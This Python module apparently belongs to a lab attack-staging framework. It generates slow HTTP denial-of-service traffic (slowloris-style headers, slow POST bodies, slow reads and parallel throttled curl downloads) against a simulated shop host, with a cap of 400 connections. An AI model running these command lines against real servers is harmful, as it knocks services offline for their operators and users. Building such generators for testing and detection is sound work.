"""Slow attacks: connections that keep a server waiting, or that it has to keep waiting for.

Owns: command lines of the tools. Refuses: more than 400 connections.
"""

from __future__ import annotations

from attacks.base import SHOP, TELLING, AttackSpec, Hosts, Program, Scene, own, page, seed, url
from scenario import tool

MOST_CONNECTIONS = 400
LARGE = "/files/manual.pdf"


def slowhttptest(scene: Scene, spec: AttackSpec, connections: int, each_second: int, *words: str,
                 path: str = "/") -> list[Program]:
    """slowhttptest, which also looks now and then whether the shop still answers."""
    return [Program(("slowhttptest", "-c", str(min(connections, MOST_CONNECTIONS)), "-r", str(each_second),
                     "-l", str(int(spec.most_s) - 2), "-g", "-o", "slow", "-u", url(scene, path), *words))]


def script(scene: Scene, spec: AttackSpec, way: str, connections: int, every_s: float, size: int, jitter: float,
           tls: bool, target: str, *words: object) -> list[Program]:
    """Our own slow clients, less regular ones."""
    return [own(scene, "slow.py", way, "--to", f"{scene.plan.node}:{443 if tls else 80}", "--host", SHOP,
                "--target", target, "--count", min(connections, MOST_CONNECTIONS), "--every", every_s,
                "--bytes", size, "--jitter", jitter, "--seconds", int(spec.most_s) - 2, "--seed", seed(scene),
                *(("--tls",) if tls else ()), *words)]


@tool("slow-headers", "slowhttptest")
def headers_slowhttptest(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, each_second: int, every_s: int,
                         size: int, post: bool = False) -> list[Program]:
    """Headers that never end."""
    return slowhttptest(scene, spec, connections, each_second, "-H", "-i", str(every_s), "-x", str(size), "-p", "4",
                        *(("-t", "POST") if post else ()), path=page(scene))


@tool("slow-headers", "script")
def headers_script(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, every_s: float, size: int = 12,
                   jitter: float = 0.4, rate: float = 5.0, tls: bool = False) -> list[Program]:
    """Headers that never end, at uneven pauses."""
    return script(scene, spec, "headers", connections, every_s, size, jitter, tls, "/", "--rate", rate)


@tool("slow-body", "slowhttptest")
def body_slowhttptest(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, each_second: int, every_s: int,
                      size: int, length: int = 8_192) -> list[Program]:
    """A body that never ends."""
    return slowhttptest(scene, spec, connections, each_second, "-B", "-i", str(every_s), "-s", str(length),
                        "-x", str(size), path="/login")


@tool("slow-body", "script")
def body_script(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, every_s: float, size: int = 6,
                jitter: float = 0.4, rate: float = 5.0, tls: bool = False) -> list[Program]:
    """A body that never ends, at uneven pauses."""
    return script(scene, spec, "body", connections, every_s, size, jitter, tls, "/login", "--rate", rate)


@tool("slow-read", "slowhttptest")
def read_slowhttptest(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, each_second: int, every_s: int,
                      window: int, size: int) -> list[Program]:
    """A large file, read by a few bytes."""
    return slowhttptest(scene, spec, connections, each_second, "-X", "-w", str(window), "-y", str(2 * window),
                        "-n", str(every_s), "-z", str(size), path=LARGE)


@tool("slow-read", "script")
def read_script(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, every_s: float, size: int,
                window: int = 2_304, jitter: float = 0.4, rate: float = 5.0, tls: bool = False) -> list[Program]:
    """A large file through a small window, at uneven pauses."""
    return script(scene, spec, "read", connections, every_s, size, jitter, tls, LARGE, "--window", window,
                  "--rate", rate)


@tool("slow-read", "curl")
def read_curl(scene: Scene, spec: AttackSpec, _: Hosts, *, connections: int, bytes_a_second: int) -> list[Program]:
    """curl that takes a large file slowly, many times at once."""
    return [Program(("curl", "-s", *TELLING, "-Z", "--parallel-immediate", "--parallel-max", str(connections),
                     "-o", "/dev/null", "--limit-rate", str(bytes_a_second), "--max-time", str(int(spec.most_s) - 2),
                     url(scene, f"{LARGE}?part=[1-{min(connections, MOST_CONNECTIONS)}]")))]
